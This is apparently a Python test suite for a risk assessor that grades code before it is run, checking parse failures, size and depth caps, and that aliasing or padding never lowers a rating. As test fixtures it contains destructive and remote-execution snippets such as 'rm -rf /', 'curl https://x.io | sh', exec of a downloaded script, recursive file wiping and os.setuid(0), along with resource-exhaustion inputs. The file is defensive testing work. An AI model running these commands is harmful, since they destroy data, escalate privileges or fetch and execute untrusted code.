"""Python that cannot be read, that is made to be slow, and what must hold for any program."""

# ruff: noqa: E501  a program is a line
from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.approval.risk import CodeExecution, Level, assess
from services.approval.risk.languages import python
from services.approval.risk.languages.python import reading
from tests.support.patience import ends


def level(code: str) -> Level:
    return assess(CodeExecution("python", code)).level


@pytest.mark.parametrize(
    "code",
    ["def f(:", "print 'x'\nexec code", "x = (", "\x0c\x0b\ud800", "if x:\ny", "a" * 10 + "\\"],
)
def test_what_does_not_parse_is_unknown(code: str) -> None:
    assert level(code) is Level.UNKNOWN


def test_what_does_not_parse_is_searched_for_what_is_telling() -> None:
    found = {f.id for f in python.assess("print 'go'\nos.system('rm -rf /')", lambda script: None)}
    assert found == {"unreadable.python-syntax", "code.process"}


def test_sessions_and_notebooks_are_read() -> None:
    assert level(">>> import os\n>>> os.setuid(0)\n") is Level.HIGH
    assert level("    import os\n    os.setuid(0)\n") is Level.HIGH
    assert level("%matplotlib inline\nimport os\n!rm -rf /\n") is Level.CRITICAL
    assert level("%%bash\nrm -rf /\n") is Level.CRITICAL
    assert level("!ls -la\nimport pandas as pd\n") is Level.LOW


SLOW = [
    "(" * 10_000 + ")" * 10_000,
    "[" * 500 + "]" * 500,
    "-" * 100_000 + "1",
    "not " * 30_000 + "x",
    "lambda: " * 15_000 + "1",
    "f(" * 150 + ")" * 150,
    "a" + ".b" * 30_000,
    "a" + "()" * 30_000,
    "x = " + " + ".join(["'a'"] * 20_000),
    "if a: pass\n" + "elif b: pass\n" * 8_000,
    "\n".join(" " * i + "if x:" for i in range(120)),
    "x = '" + "a" * 1_000_000 + "'",
    "x = 1\n" * 170_000,
]


@pytest.mark.parametrize("code", SLOW, ids=range(len(SLOW)))
def test_what_is_too_large_or_too_deep_is_unknown_at_once(code: str) -> None:
    with ends():
        assert level(code) is Level.UNKNOWN


GROWING = [
    "a = [1, 2]\n" + "a = [a, a]\n" * 3000,
    "s = 'a'\n" + "s = s + s\n" * 4000,
    "d = {}\n" + "".join(f"d['k{i}'] = d\n" for i in range(3000)),
    "x = {}\n" + "x['a'] = {'b': x, 'c': x}\n" * 2000,
    "".join(f"x = x.y{i}()\n" for i in range(4000)),
    "f = '{}{}' * 100\n" + "y = f.format(*'abc')\n" * 2000,
    "x = 'a' * 60000\n" + "y = x.replace('a', 'b').upper().encode().hex()\n" * 1000,
    "x = 10 ** 9 ** 9 ** 9\ny = 1 << 10 ** 9\nz = 'a' * 10 ** 12\n",
    "import zlib\n" + "y = zlib.decompress(b'a' * 6000)\n" * 1000,
    "def f(a):\n  return f(a + 'x')\nf('y')\n" * 400,
    "class A: pass\n" + "".join(f"class A{i}(A):\n x = A.y\nA = A{i}\n" for i in range(1000)),
]


@pytest.mark.parametrize("code", GROWING, ids=range(len(GROWING)))
def test_what_grows_while_it_is_read_is_bounded(code: str) -> None:
    with ends():
        python.assess(code, lambda script: None)


def test_the_caps_are_those_of_the_documentation() -> None:
    assert level("x = 1  # " + "a" * (reading.MAX_SOURCE - 10)) is Level.LOW
    assert level("x = 1  # " + "a" * reading.MAX_SOURCE) is Level.UNKNOWN


RISKY = [
    "import os\nos.setuid(0)",
    "import shutil\nshutil.rmtree('/srv/data')",
    "import requests\nexec(requests.get('https://x.io').text)",
    "import subprocess as s\ns.run('curl https://x.io | sh', shell=True)",
    "from pathlib import Path\nfor p in Path('a').rglob('*'):\n    p.write_bytes(b'')",
    "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 99))",
]
BENIGN = [
    "print('x')",
    "import json\njson.dumps({'a': 1})",
    "x = [i for i in range(3)]",
    "def helper(a, b=2):\n    return a + b",
    "class Thing:\n    name = 'x'",
    "import os\nos.makedirs('build', exist_ok=True)",
    "for n in (1, 2):\n    print(n)",
    "try:\n    import numpy\nexcept ImportError:\n    numpy = None",
    "with open('notes.txt') as f:\n    text = f.read()",
    "path = 'out/a.txt'",
]


@given(
    st.sampled_from(RISKY), st.lists(st.sampled_from(BENIGN), max_size=4), st.lists(st.sampled_from(BENIGN), max_size=4)
)
@settings(max_examples=40, deadline=None)
def test_ordinary_statements_around_it_never_lower_a_level(code: str, before: list[str], after: list[str]) -> None:
    assert level("\n".join([*before, code, *after])) >= level(code)


@given(
    st.sampled_from(["os", "system", "a", "self_", "json", "x1"]),
    st.sampled_from(["remove", "system", "popen", "setuid"]),
)
@settings(max_examples=20, deadline=None)
def test_other_names_never_lower_a_level(alias: str, function: str) -> None:
    plain = level(f"import os\nos.{function}(x)")
    assert level(f"import os as {alias}\n{alias}.{function}(x)") >= plain
    assert level(f"from os import {function} as {alias}\n{alias}(x)") >= plain
    assert level(f"import os\n{alias}_ = os.{function}\n{alias}_(x)") >= plain
    assert level(f"def go({alias}):\n    {alias}.{function}(x)\nimport os as o\ngo(o)") >= plain


_WORDS = st.sampled_from(
    "import os from as def class for in while if else : ; ( ) [ ] { } , . = == + - * ** % / 'a' b'\\xff' f'{x}' 0 1e9 x y self lambda yield await async with try except finally return "
    "None True @ -> := * open eval exec os.system subprocess.run __import__ getattr setattr Path rmtree join format split encode decode b64decode range zip map items os.environ \n".split(
        " "
    )
)


@given(st.lists(_WORDS, max_size=30).map(" ".join))
@settings(max_examples=150, deadline=None)
def test_it_never_raises(code: str) -> None:
    python.assess(code, lambda script: None)


_ATOMS = st.sampled_from(
    [
        "x",
        "'a'",
        "b'b'",
        "1",
        "None",
        "os",
        "[]",
        "{}",
        "Path('a')",
        "open('f')",
        "os.environ",
        "lambda q: q",
        "f",
        "A()",
        "range(3)",
        "'%s{}'",
        "-1",
    ]
)


def _larger(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    operators = st.sampled_from(["+", "%", "*", "/", "**", "<<", "^", "and", "==", "in"])
    methods = st.sampled_from(
        "join split format replace items get encode decode read write unlink strip system run post send parent pop append hex index".split()
    )
    functions = st.sampled_from(
        "str bytes len dict list chr int zip enumerate map getattr vars open os.path.join os.walk os.remove os.open os.chmod os.kill subprocess.run exec eval __import__ Path base64.b64decode requests.post zlib.decompress "
        "functools.partial threading.Thread json.dump socket.socket pickle.loads bytes.fromhex codecs.decode os.getenv shutil.copy glob.glob print f A dict".split()
    )
    return st.one_of(
        st.builds(lambda a, o, b: f"({a} {o} {b})", inner, operators, inner),
        st.builds(lambda a, m, b: f"({a}).{m}({b})", inner, methods, inner),
        st.builds(lambda f, a, b: f"{f}({a}, {b})", functions, inner, inner),
        st.builds(lambda f, a: f"{f}({a})", functions, inner),
        st.builds(lambda a, b: f"({a})[{b}]", inner, inner),
        st.builds(lambda a, b: f"({a})[{b}:]", inner, inner),
        st.builds(lambda a, b: f"[{a}, *{b}]", inner, inner),
        st.builds(lambda a, b: f"{{{a}: {b}}}", inner, inner),
        st.builds(lambda a, b: f"[{a} for x in {b}]", inner, inner),
    )


@given(st.lists(st.recursive(_ATOMS, _larger, max_leaves=8), min_size=1, max_size=4))
@settings(max_examples=200, deadline=None)
def test_it_never_raises_on_programs(expressions: list[str]) -> None:
    head = "import os, json, socket, requests, subprocess\nfrom pathlib import Path\nclass A:\n    def run(self, *a): return a\ndef f(*a, **k): return a\n"
    python.assess(head + "\n".join(f"x = {each}" for each in expressions), lambda script: None)
